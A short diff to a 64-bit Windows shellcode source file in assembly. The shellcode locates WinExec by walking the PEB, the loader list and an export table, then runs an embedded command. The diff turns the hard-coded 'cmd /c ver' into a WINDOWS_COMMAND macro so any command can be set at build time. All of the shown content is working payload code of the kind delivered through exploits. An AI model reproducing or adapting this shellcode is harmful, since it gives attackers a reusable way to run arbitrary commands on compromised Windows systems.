@@ -1,5 +1,8 @@
 ; Windows, 64 bit: PEB, loader list, export table searched for "WinExec" by its letters; WinExec("cmd /c ver", 0).
 bits 64
+%ifndef WINDOWS_COMMAND
+%define WINDOWS_COMMAND 'cmd /c ver'
+%endif
         sub rsp, 0x58
         and rsp, -16
         mov rax, [gs:0x60]
@@ -28,7 +31,7 @@ next:   mov eax, [rsi + rcx * 4]
         mov eax, [rsi + rcx * 4]
         add rax, rbx
         call run
-        db 'cmd /c ver', 0
+        db WINDOWS_COMMAND, 0
 run:    pop rcx
         xor edx, edx
         call rax
